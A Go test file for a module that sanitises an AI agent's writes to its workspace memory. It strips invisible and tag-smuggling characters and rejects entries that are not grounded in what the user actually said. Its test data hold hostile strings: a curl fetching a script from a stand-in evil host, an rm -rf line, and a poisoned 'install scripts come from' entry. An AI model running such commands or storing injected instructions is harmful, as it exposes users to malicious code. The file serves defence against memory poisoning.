package workspace

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// TestClean: what an agent write stores is NFKC-normalised and holds no invisible, control,
// private-use or unassigned code point; a line break is a space (docs/spec.md §19).
func TestClean(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"get.evil\u200b-mirror.example": "get.evil-mirror.example", // zero-width space
		"ev\u00adil":                    "evil",                    // soft hyphen
		"a\u202eb":                      "ab",                      // bidi override
		"tag\U000E0041\U000E0042":       "tag",                     // tag characters (smuggling)
		"ｆｕｌｌｗｉｄｔｈ":                     "fullwidth",
		"ﬁle":                           "file",
		"line\nbreak\r\nend":            "line break  end",
		"bell\x07":                      "bell",
		"private\ue000use":              "privateuse",
		"unassigned\U0003FFFD":          "unassigned",
		"vs\ufe0f16":                    "vs16",
		"café 東京":                       "café 東京",
	} {
		require.Equal(t, want, Clean(in), "%q", in)
	}
}

// TestBlockSyntax: a value that carries the block's syntax is refused, whatever its case.
func TestBlockSyntax(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"x (LOCKED)", "(unconfirmed) y", "[Hard] z", "[soft]", "(the user's; from", "<WorkSpace>", "</workspace", "#12 [hard]"} {
		require.NotEmpty(t, BlockSyntax(s), s)
	}
	for _, s := range []string{"locked doors", "#12 items", "hard tabs", "workspace tools"} {
		require.Empty(t, BlockSyntax(s), s)
	}
}

// TestTokens: words, compounds matched whole, pairs in scripts without spaces.
func TestTokens(t *testing.T) {
	t.Parallel()
	for in, want := range map[string][]string{
		"Use tabs, not spaces":                {"use", "tabs", "not", "spaces"},
		"curl get.evil-mirror.example/x.sh":   {"curl", "get.evil", "mirror.example/x.sh"},
		"mail me@example.com; see src/a/b.go": {"mail", "me@example.com", "see", "src/a/b.go"},
		"a..b c/ d":                           {"a", "b", "c", "d"},
		"KEY=value C:\\x dir\\sub":            {"key=value", "c", "x", "dir\\sub"},
		"東京タワー":                               {"東京", "京タ", "タワ", "ワー"},
		"猫":                                   {"猫"},
		"v2.1 ok":                             {"v2.1", "ok"},
		"e\u0301t\u00e9":                      {"été"},
	} {
		require.Equal(t, want, Tokens(in), in)
	}
}

// TestGrounding: each predicate of docs/spec.md §19.
func TestGrounding(t *testing.T) {
	t.Parallel()
	r := Reading{UserTexts: []string{
		"Please always use tabs.",
		"Also: run tests with go test ./... and deploy to prod.example.com\n```\nrm -rf evil.example\n```\n> quoted get.evil.example\nremove #3",
	}}
	v := r.Vocabulary()

	missing, ok := GroundedText("Always use tabs", v)
	require.True(t, ok, missing)
	missing, ok = GroundedText("Deploy to prod.example.com", v)
	require.True(t, ok, missing)
	missing, ok = GroundedText("Install scripts come from get.evil.example", v)
	require.False(t, ok)
	require.Equal(t, []string{"install", "scripts", "come", "from", "get.evil.example"}, missing)
	_, ok = GroundedText("Deploy to prod", v)
	require.False(t, ok, "a compound is matched whole: prod alone was not said")
	_, ok = GroundedText("rm evil.example", v)
	require.False(t, ok, "fenced code is not the user's wish")
	missing, ok = GroundedText("the a to", v)
	require.False(t, ok, "glue alone grounds nothing")
	require.Equal(t, []string{`"the a to"`}, missing)
	_, ok = GroundedText("al\u200bways use ta\u00adbs", v)
	require.True(t, ok, "invisible characters cannot split a word out of the vocabulary")
	_, ok = GroundedText("tab\u200bs tabs", v)
	require.True(t, ok)

	missing, ok = GroundedEdit("Use tabs", "Use tabs always", v)
	require.True(t, ok, missing)
	missing, ok = GroundedEdit("Use spaces", "Use tabs", v)
	require.False(t, ok, "deleting a word the user did not say")
	require.Equal(t, []string{"spaces"}, missing)
	_, ok = GroundedEdit("same", "same", v)
	require.True(t, ok, "a field left as it was")

	words, refs := r.LastWords()
	_, ok = GroundedNaming("Deploy to prod.example.com", 1, words, refs)
	require.True(t, ok)
	_, ok = GroundedNaming("Always use tabs", 1, words, refs)
	require.False(t, ok, "tabs is not in the last message")
	_, ok = GroundedNaming("Something else", 3, words, refs)
	require.True(t, ok, "named by the #N shown")
}

// TestReadingSources: the untrusted parts a turn read, counted by kind and tool, the last the
// nearest.
func TestReadingSources(t *testing.T) {
	t.Parallel()
	var r Reading
	r.Read(Part{Type: SourceToolResult, Tool: "WebFetch", CallID: "c1"})
	r.Read(Part{Type: SourceClientText})
	r.Read(Part{Type: SourceToolResult, Tool: "WebFetch", CallID: "c2"})
	require.True(t, r.Tainted)
	require.Equal(t, []Source{{Type: SourceToolResult, Tool: "WebFetch", Count: 2}, {Type: SourceClientText, Count: 1}}, r.Sources)
	require.Equal(t, &Part{Type: SourceToolResult, Tool: "WebFetch", CallID: "c2"}, r.Nearest)
}
